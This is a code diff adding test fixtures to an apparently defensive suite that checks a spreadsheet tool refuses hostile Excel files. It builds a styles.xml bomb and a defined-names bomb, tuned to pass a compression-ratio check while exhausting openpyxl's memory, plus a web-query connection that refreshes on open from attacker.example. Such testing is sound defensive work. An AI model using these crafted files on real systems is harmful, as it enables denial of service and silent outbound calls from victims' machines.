@@ -12,6 +12,7 @@ stay quick.
 from __future__ import annotations
 
 import io
+import random
 import re
 import struct
 import zipfile
@@ -558,6 +559,49 @@ def long_tag(base: Path, folder: Path) -> Path:
                        stored=True)
 
 
+# --- found in review: parts openpyxl reads whole, external data ----------------------------
+
+def styles_bomb(base: Path, folder: Path) -> Path:
+    """1.5 million cell formats in styles.xml (1.7 MB, some 54:1: under the ratio bound);
+    openpyxl reads the styles part whole, even read-only (27 s and 1.3 GiB before)."""
+    styles = _read(base, "xl/styles.xml")
+    at = styles.index(">", styles.index("<cellXfs")) + 1
+    rng = random.Random(1)  # varied, so the part compresses under the 100:1 bound
+    xfs = "".join(f'<xf numFmtId="{rng.randint(0, 9)}" fontId="0" fillId="0" borderId="0" '
+                  'xfId="0"/>' for _ in range(1_500_000))
+    return rewrite(base, folder / "styles.xlsm",
+                   replace={"xl/styles.xml": (styles[:at] + xfs + styles[at:]).encode()})
+
+
+def defined_names_bomb(base: Path, folder: Path) -> Path:
+    """800,000 defined names in the workbook part, which openpyxl also reads whole (brief: 25 s
+    and 845 MiB before)."""
+    wb = _read(base, "xl/workbook.xml")
+    rng = random.Random(2)
+    names = "".join(f'<definedName name="n{rng.randint(0, 10**9)}_{k}">Offers!$A$'
+                    f'{rng.randint(1, 999)}</definedName>' for k in range(800_000))
+    if "<definedNames>" in wb:
+        wb = wb.replace("<definedNames>", "<definedNames>" + names, 1)
+    else:
+        wb = wb.replace("</sheets>", "</sheets><definedNames>" + names + "</definedNames>", 1)
+    return rewrite(base, folder / "names.xlsm", replace={"xl/workbook.xml": wb.encode()})
+
+
+def data_connection(base: Path, folder: Path) -> Path:
+    """A web query refreshed on open (connections.xml): external data, fetched by Excel."""
+    part = "xl/connections.xml"
+    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<connections '
+           f'xmlns="{_MAIN}"><connection id="1" name="q" type="4" refreshedVersion="6" '
+           'refreshOnLoad="1"><webPr url="http://attacker.example/q"/></connection>'
+           "</connections>")
+    rels = _relationship(_read(base, _WB_RELS), "rId97", f"{_REL}/connections",
+                         "connections.xml")
+    types = _override(_read(base, _TYPES), part, "application/vnd.openxmlformats-"
+                      "officedocument.spreadsheetml.connections+xml")
+    return rewrite(base, folder / "connection.xlsx", replace={
+        _WB_RELS: rels.encode(), _TYPES: types.encode()}, add={part: xml.encode()})
+
+
 def _one(i: int) -> tuple[str, ...]:
     """One command per variant, in turn, so every command refuses some of them."""
     return (COMMANDS[i % len(COMMANDS)],)
@@ -610,6 +654,9 @@ _SPECS = [
      False),
     ("many-elements", "11.9", many_elements, "more than 2,000,000 elements", False),
     ("long-tag", "11.9", long_tag, "longer than 4 mib", False),
+    ("styles-bomb", "11.9", styles_bomb, "more than 100,000 xml elements", True),
+    ("defined-names-bomb", "11.9", defined_names_bomb, "more than 100,000 xml elements", False),
+    ("data-connection", "11.5", data_connection, "external data connections", False),
 ]
 
 CASES: list[Case] = [Case(name, finding, build, reason, COMMANDS if every else _one(i))
